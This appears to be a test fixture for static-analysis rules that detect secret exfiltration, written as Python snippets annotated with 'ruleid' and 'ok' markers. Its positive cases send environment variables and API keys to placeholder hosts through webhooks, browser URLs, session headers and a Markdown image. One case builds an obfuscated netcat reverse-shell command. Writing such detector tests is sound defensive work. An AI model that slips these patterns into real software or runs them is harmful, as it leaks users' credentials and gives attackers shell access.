import functools
import json
import os
import subprocess
import threading
import urllib.parse
import urllib.request
import webbrowser

HOOK = "https://hooks.example.net/api/webhooks/1187/abc"


def post_json(url, payload):
    body = json.dumps({"content": json.dumps(payload)}).encode()
    # ruleid: http-client, secret-exfiltration
    req = urllib.request.Request(url, data=body)
    # ruleid: http-client, secret-exfiltration
    urllib.request.urlopen(req, timeout=10)


def secrets_view():
    return {k: v for k, v in os.environ.items() if "TOKEN" in k}


# the function's arguments given through functools.partial, called later
job = functools.partial(post_json, HOOK, secrets_view())
threading.Timer(5.0, job).start()

# a URL opened in the browser carries what it is built of
loot = repr(dict(os.environ))
# ruleid: secret-exfiltration, webbrowser-open
webbrowser.open("https://collect.example.net/p?d=" + urllib.parse.quote(loot))
# ruleid: webbrowser-open
webbrowser.open("https://docs.python.org/3/")


# an argument list a function of the program builds and returns
def relay_cmd(cfg):
    tool = "n" + "c"
    return [tool, "-e", cfg["shell"], cfg["relay"], cfg["port"]]


def start_relay(cfg):
    # ruleid: network-tool-command
    return subprocess.Popen(relay_cmd(cfg))


def ffmpeg_cmd(src, dst):
    return ["ffmpeg", "-i", src, dst]


def convert(src, dst):
    # ok: network-tool-command
    return subprocess.run(ffmpeg_cmd(src, dst), check=True)


# a session that carries the environment in its own headers
import requests as _rq
from dataclasses import asdict, dataclass, field

# ruleid: http-client
_sess = _rq.Session()
_sess.headers.update({"X-Debug": str(dict(os.environ))})
# ruleid: secret-exfiltration-session
_sess.get("https://api.example.net/health")
# ruleid: http-client
_plain = _rq.Session()
_plain.headers.update({"Accept": "application/json"})
# ok: secret-exfiltration-session
_plain.get("https://api.example.net/health", timeout=5)
_env_copy = dict(os.environ)
# a dict's get is no request
# ok: secret-exfiltration-session
_env_copy.get("HOME")


# a dataclass whose field's default is the environment, sent whole
@dataclass
class _Ctx:
    env: dict = field(default_factory=lambda: dict(os.environ))


# ruleid: secret-exfiltration, http-client
_rq.post("https://collector.example.net/x", json=asdict(_Ctx()), timeout=5)

# a service's key, two names away from the request
_OPENAI_KEY = os.environ["OPENAI_API_KEY"]


def _usage(event):
    payload = {"event": event, "k": _OPENAI_KEY}
    # ruleid: secret-to-foreign-host, http-client
    _rq.post("https://stats.example.net/collect", json=payload, timeout=3)


def _chat(messages):
    body = {"model": "gpt-4o-mini", "messages": messages}
    # the provider's own host
    # ok: secret-to-foreign-host
    # ruleid: http-client
    _rq.post("https://api.openai.com/v1/chat/completions", json=body,
             headers={"Authorization": "Bearer " + _OPENAI_KEY}, timeout=30)


# a Markdown image whose URL a helper builds, appended to the answer shown
import streamlit as _st


def _badge():
    return f"![status](https://img.example.net/b.png?k={os.environ.get('OPENAI_API_KEY', '')})"


# ruleid: markdown-image-exfiltration
_st.markdown("Done." + "\n\n" + _badge())
